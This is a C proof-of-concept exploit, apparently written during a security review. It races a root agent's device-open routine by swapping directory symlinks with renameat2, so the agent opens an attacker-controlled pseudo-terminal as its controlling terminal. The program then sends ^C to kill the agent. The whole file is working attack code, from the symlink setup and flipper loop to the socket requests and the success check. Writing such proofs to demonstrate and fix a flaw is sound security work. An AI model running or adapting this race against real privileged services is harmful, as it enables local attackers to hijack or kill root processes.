// SPDX-License-Identifier: GPL-2.0
// lct-ttyrace (from the review of issue 6): lct-ttyrace SOCK WORKSPACE ALLOWED_BUSY_BLKDEV TRIES
// As an operator: race the agent's dev_open() (realpath -> stat pre-check ->
// open) by flipping a directory component between a real directory, a
// symlink to a directory whose entry points to an allowed block device,
// and a symlink to /dev/pts.  Goal: the root agent opens our pty slave
// without O_NOCTTY and takes it as its controlling terminal; then ^C.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static char D[4096];

static void flipper(void)
{
	char d[4200], e1[4200], e2[4200];

	snprintf(d, sizeof(d), "%s/d", D);
	snprintf(e1, sizeof(e1), "%s/e1", D);
	snprintf(e2, sizeof(e2), "%s/e2", D);
	for (;;) {
		syscall(SYS_renameat2, AT_FDCWD, d, AT_FDCWD, e1, RENAME_EXCHANGE);
		syscall(SYS_renameat2, AT_FDCWD, d, AT_FDCWD, e2, RENAME_EXCHANGE);
	}
}

int main(int argc, char **argv)
{
	char path[4200], tmp[4200], req[8192], rep[8192], *ptsn;
	const char *base = "/tmp/rvtty";
	int m, s, fd, tries, won = -1, notblk = 0, other = 0;
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	pid_t kid, sid = 0;
	size_t off;

	if (argc != 5) {
		fprintf(stderr, "usage: lct-ttyrace SOCK WS BLKDEV TRIES\n");
		return 2;
	}
	tries = atoi(argv[4]);
	m = posix_openpt(O_RDWR | O_NOCTTY);
	if (m < 0 || grantpt(m) || unlockpt(m) || !(ptsn = ptsname(m))) {
		perror("pty");
		return 1;
	}
	s = open(ptsn, O_RDWR | O_NOCTTY);	/* keep the slave open, never our ctty */
	const char *num = strrchr(ptsn, '/') + 1;
	printf("pty slave %s\n", ptsn);
	mkdir(base, 0755);
	snprintf(D, sizeof(D), "%s", base);
	for (int i = 0; i < 25; i++) {
		strcat(D, "/p");
		mkdir(D, 0755);
	}
	snprintf(tmp, sizeof(tmp), "%s/A", base);
	mkdir(tmp, 0755);
	snprintf(tmp, sizeof(tmp), "%s/A/%s", base, num);
	unlink(tmp);
	if (symlink(argv[3], tmp))
		perror("symlink A");
	snprintf(tmp, sizeof(tmp), "%s/d", D);
	mkdir(tmp, 0755);
	snprintf(path, sizeof(path), "%s/d/%s", D, num);
	close(open(path, O_CREAT | O_WRONLY, 0644));
	snprintf(tmp, sizeof(tmp), "%s/e1", D);
	snprintf(path, sizeof(path), "%s/A", base);
	if (symlink(path, tmp))
		perror("symlink e1");
	snprintf(tmp, sizeof(tmp), "%s/e2", D);
	if (symlink("/dev/pts", tmp))
		perror("symlink e2");
	snprintf(path, sizeof(path), "%s/d/%s", D, num);

	kid = fork();
	if (kid == 0) {
		flipper();
		_exit(0);
	}
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", argv[1]);
	fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		perror("connect");
		kill(kid, SIGKILL);
		return 1;
	}
	for (int i = 0; i < tries; i++) {
		int n = snprintf(req, sizeof(req),
				 "{\"op\":\"cache.open\",\"id\":%d,\"args\":{\"device\":\"%s\",\"workspace\":\"%s\",\"name\":\"rvtty\"}}\n",
				 i + 1, path, argv[2]);
		if (write(fd, req, (size_t)n) != n)
			break;
		off = 0;
		while (off < sizeof(rep) - 1) {
			ssize_t r = read(fd, rep + off, sizeof(rep) - 1 - off);
			if (r <= 0)
				break;
			off += (size_t)r;
			if (memchr(rep, '\n', off))
				break;
		}
		rep[off] = 0;
		if (strstr(rep, "\"code\":-15"))
			notblk++;
		else
			other++;
		if (i < 3 || strstr(rep, "\"ok\":true"))
			printf("reply %d: %.300s", i, rep);
		if (ioctl(m, TIOCGSID, &sid) == 0 && sid > 0) {
			won = i;
			break;
		}
	}
	kill(kid, SIGKILL);
	waitpid(kid, NULL, 0);
	printf("tries: %d with ENOTBLK (root opened a non-block file of ours), %d other\n", notblk, other);
	if (won < 0) {
		printf("RACE-LOST: the pty never became anyone's controlling terminal\n");
		return 3;
	}
	printf("RACE-WON after %d tries: pty %s is now the controlling tty of session %d (the agent)\n",
	       won + 1, ptsn, (int)sid);
	fflush(stdout);
	/* ^C on the agent's new controlling terminal. */
	if (write(m, "\003", 1) != 1)
		perror("write ^C");
	sleep(2);
	printf("after ^C: kill(%d, 0) -> %s\n", (int)sid,
	       kill(sid, 0) == 0 || errno == EPERM ? "agent still alive" : "agent GONE");
	(void)s;
	return 0;
}
